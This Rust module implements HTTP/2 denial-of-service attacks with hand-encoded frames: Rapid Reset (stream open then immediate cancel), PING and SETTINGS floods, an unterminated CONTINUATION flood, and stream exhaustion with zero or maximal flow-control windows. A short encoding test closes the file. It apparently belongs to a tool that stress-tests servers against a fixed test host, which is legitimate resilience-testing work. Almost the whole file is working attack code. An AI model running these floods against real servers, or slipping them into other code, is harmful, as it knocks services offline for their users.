//! HTTP/2 attacks with manually encoded frames (RFC 9113).

use anyhow::{Result, bail};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, split};

use super::attack::{Attack, Counters};

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// The identifiers of SETTINGS parameters (RFC 9113 §6.5.2).
const INITIAL_WINDOW_SIZE: u16 = 4;

/// Runs an HTTP/2 attack until the connection closes.
pub(super) async fn attack<S>(attack: Attack, stream: S, path: &str, counters: &Counters) -> Result<()>
where
    S: AsyncRead + AsyncWrite + Unpin,
{
    let (mut from, mut to) = split(stream);
    let window: u32 = match attack {
        Attack::NoWindow => 0,
        Attack::WideWindow => (1 << 31) - 1,
        _ => 65_535,
    };
    let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    hello.extend(frame(SETTINGS, 0, 0, &[&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &window.to_be_bytes()].concat()));
    if attack == Attack::WideWindow {
        hello.extend(frame(WINDOW_UPDATE, 0, 0, &(window - 65_535).to_be_bytes()));
    }
    to.write_all(&hello).await?;
    let head = head(path);
    tokio::select! {
        ended = send(attack, &mut to, &head, counters) => ended,
        ended = discard(attack, &mut from) => ended,
    }
}

async fn send<W: AsyncWrite + Unpin>(attack: Attack, to: &mut W, head: &[u8], counters: &Counters) -> Result<()> {
    let (mut stream_id, mut batches) = (1, 0_u64);
    loop {
        let mut batch = Vec::new();
        for _ in 0..100 {
            match attack {
                Attack::RapidReset => {
                    batch.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream_id, head));
                    // CANCEL
                    batch.extend(frame(RST_STREAM, 0, stream_id, &8_u32.to_be_bytes()));
                }
                Attack::Pings => {
                    batch.extend(frame(PING, 0, 0, &[0; 8]));
                    batch.extend(frame(SETTINGS, 0, 0, &[]));
                }
                Attack::Continuations if batches == 0 && batch.is_empty() => {
                    batch.extend(frame(HEADERS, END_STREAM, 1, head));
                }
                Attack::Continuations => batch.extend(frame(CONTINUATION, 0, 1, b"\0\x03x-a\x01b")),
                _ => batch.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream_id, head)),
            }
            stream_id += 2;
        }
        to.write_all(&batch).await?;
        to.flush().await?;
        counters.sent(batch.len());
        batches += 1;
        if matches!(attack, Attack::NoWindow | Attack::WideWindow) {
            // These attacks have opened all allowed streams.
            std::future::pending::<()>().await;
        }
        tokio::task::yield_now().await;
    }
}

async fn discard<R: AsyncRead + Unpin>(attack: Attack, from: &mut R) -> Result<()> {
    if attack == Attack::WideWindow {
        std::future::pending::<()>().await;
    }
    let mut waste = vec![0; 16_384];
    while from.read(&mut waste).await? > 0 {}
    bail!("closed")
}

/// Encodes an HTTP/2 frame (RFC 9113 §4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, high, middle, low] = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&[high, middle, low, kind, flags], &stream.to_be_bytes()[..], payload].concat()
}

/// Encodes the head of a GET request as HPACK literals (RFC 7541 §6.2.2).
fn head(path: &str) -> Vec<u8> {
    let fields =
        [(":method", "GET"), (":scheme", "https"), (":authority", crate::compare::certificate::HOST), (":path", path)];
    let literal = |(name, value): (&str, &str)| {
        let length = |text: &str| u8::try_from(text.len()).unwrap_or_default();
        [&[0, length(name)], name.as_bytes(), &[length(value)], value.as_bytes()].concat()
    };
    fields.into_iter().flat_map(literal).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encodes_http2_frames_and_request_heads() {
        assert_eq!(frame(PING, 0, 1, &[7; 2]), [0, 0, 2, 6, 0, 0, 0, 0, 1, 7, 7]);
        assert_eq!(&head("/a")[..12], b"\0\x07:method\x03GE");
    }
}
